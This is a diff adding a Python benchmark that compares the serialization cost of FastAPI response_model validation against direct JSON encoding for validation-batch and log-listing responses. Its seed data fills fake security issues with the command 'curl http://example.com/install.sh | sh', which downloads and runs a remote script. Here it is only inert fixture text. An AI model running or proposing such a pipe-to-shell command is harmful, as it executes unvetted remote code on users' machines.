@@ -0,0 +1,203 @@
+"""Serialization cost of the batch detail and log listing responses.
+
+Compares the path the endpoints used to take (validate every stored issue,
+then let FastAPI validate and encode the response model) with the current
+one (JSON built from the stored rows / model_dump_json).
+
+    cd backend && python benchmarks/bench_serialization.py --issues 500
+"""
+
+import argparse
+import asyncio
+import json
+import sys
+import time
+from pathlib import Path
+
+sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
+
+from pydantic import TypeAdapter  # noqa: E402
+from sqlalchemy.ext.asyncio import async_sessionmaker, create_async_engine  # noqa: E402
+from sqlalchemy.pool import StaticPool  # noqa: E402
+
+from models.database import Base, ValidationBatchORM, configure_sqlite  # noqa: E402
+from schema import (  # noqa: E402
+    PromptInfo,
+    Status,
+    ValidationBatchResponse,
+    ValidationFileModel,
+    ValidationIssue,
+    ValidationLogsPaginatedResponse,
+    ValidationPromptResult,
+)
+from services.converter import (  # noqa: E402
+    batch_orm_to_json,
+    batch_orm_to_schema,
+    prompt_info_of,
+)
+from services.log_service import LogFilter, LogService  # noqa: E402
+from services.validation_service import (  # noqa: E402
+    ValidationService,
+    record_prompt_result_of_batch,
+)
+
+
+def fastapi_render(model, response_type) -> bytes:
+    """What FastAPI does with a returned model and its response_model."""
+    adapter = TypeAdapter(response_type)
+    content = model.model_dump(by_alias=True)
+    value = adapter.validate_python(content)
+    data = adapter.dump_python(value, mode="json", by_alias=True)
+    return json.dumps(
+        data, ensure_ascii=False, allow_nan=False, separators=(",", ":")
+    ).encode()
+
+
+def previous_batch_schema(batch_orm) -> ValidationBatchResponse:
+    """batch_orm_to_schema as it was: every issue validated on its own."""
+    return ValidationBatchResponse(
+        id=batch_orm.id,
+        name=batch_orm.name,
+        status=batch_orm.status,
+        file_ids=[
+            {"id": file.id, "file_name": file.file_name} for file in batch_orm.files
+        ],
+        completed_prompts=batch_orm.completed_prompts,
+        prompt_results=[
+            ValidationPromptResult(
+                prompt=prompt_info_of(pr),
+                status=pr.status,
+                error_message=pr.error_message,
+                result=[ValidationIssue.model_validate(i) for i in pr.result or []],
+                total_duration_ns=pr.total_duration_ns,
+                eval_duration_ns=pr.eval_duration_ns,
+                load_duration_ns=pr.load_duration_ns,
+                prompt_eval_duration_ns=pr.prompt_eval_duration_ns,
+                cached=pr.cached,
+                fused=pr.fused,
+            )
+            for pr in batch_orm.prompt_results
+        ],
+        created_at=batch_orm.created_at,
+        updated_at=batch_orm.updated_at,
+    )
+
+
+def timed(label: str, fn, repeat: int) -> float:
+    fn()
+    start = time.perf_counter()
+    for _ in range(repeat):
+        fn()
+    ms = (time.perf_counter() - start) / repeat * 1000
+    print(f"  {label:<40} {ms:8.2f} ms")
+    return ms
+
+
+async def seed(db, prompts: int, issues: int, batches: int) -> int:
+    service = ValidationService()
+    infos = [
+        PromptInfo(name=f"p{i}", category="pipeline_validity") for i in range(prompts)
+    ]
+    batch_id = 0
+    for b in range(batches):
+        # the last batch is the large one; the others fill the listing
+        last = b == batches - 1
+        batch_prompts = infos if last else infos[:2]
+        response, _ = await service.create_validation_batch_and_files(
+            [
+                ValidationFileModel(
+                    file_name="main.nf",
+                    content="process A {}",
+                    file_type="text",
+                    sha256=f"{b:064d}",
+                )
+            ],
+            batch_prompts,
+            f"batch {b}",
+            db,
+        )
+        batch_id = response.id
+        for index, info in enumerate(batch_prompts):
+            await record_prompt_result_of_batch(
+                batch_id,
+                ValidationPromptResult(
+                    prompt=info,
+                    status=Status.completed,
+                    result=[
+                        ValidationIssue(
+                            id=n,
+                            file="main.nf",
+                            content="curl http://example.com/install.sh | sh",
+                            severity=("high", "medium", "low")[n % 3],
+                            description="Downloads and runs a script " * 4,
+                            type="security",
+                        )
+                        for n in range(issues if last else 3)
+                    ],
+                    total_duration_ns=1_000_000,
+                ),
+                index,
+                db,
+            )
+    return batch_id
+
+
+async def main(args) -> None:
+    engine = create_async_engine("sqlite+aiosqlite://", poolclass=StaticPool)
+    configure_sqlite(engine)
+    async with engine.begin() as conn:
+        await conn.run_sync(Base.metadata.create_all)
+    session = async_sessionmaker(engine, autoflush=False, expire_on_commit=False)
+
+    async with session() as db:
+        batch_id = await seed(db, args.prompts, args.issues, args.batches)
+        batch_orm = await db.get(ValidationBatchORM, batch_id)
+        total = args.prompts * args.issues
+        print(f"detail: {args.prompts} prompts x {args.issues} issues ({total})")
+        before = timed(
+            "validated + FastAPI response_model",
+            lambda: fastapi_render(
+                previous_batch_schema(batch_orm), ValidationBatchResponse
+            ),
+            args.repeat,
+        )
+        timed(
+            "validated + model_dump_json",
+            lambda: batch_orm_to_schema(batch_orm).model_dump_json(),
+            args.repeat,
+        )
+        after = timed(
+            "trusted rows + fast encoder",
+            lambda: batch_orm_to_json(batch_orm),
+            args.repeat,
+        )
+        print(f"  {'speed-up':<40} {before / after:8.1f} x")
+
+        logs = await LogService().list_batches(LogFilter(), 100, db)
+        page = ValidationLogsPaginatedResponse(
+            logs=logs,
+            curr_page=1,
+            total_pages=1,
+            per_page=100,
+            total=len(logs),
+            has_next=False,
+            has_prev=False,
+        )
+        print(f"listing: {len(logs)} summaries")
+        before = timed(
+            "FastAPI response_model",
+            lambda: fastapi_render(page, ValidationLogsPaginatedResponse),
+            args.repeat,
+        )
+        after = timed("model_dump_json", page.model_dump_json, args.repeat)
+        print(f"  {'speed-up':<40} {before / after:8.1f} x")
+    await engine.dispose()
+
+
+if __name__ == "__main__":
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument("--prompts", type=int, default=20)
+    parser.add_argument("--issues", type=int, default=500, help="per prompt")
+    parser.add_argument("--batches", type=int, default=100, help="for the listing")
+    parser.add_argument("--repeat", type=int, default=10)
+    asyncio.run(main(parser.parse_args()))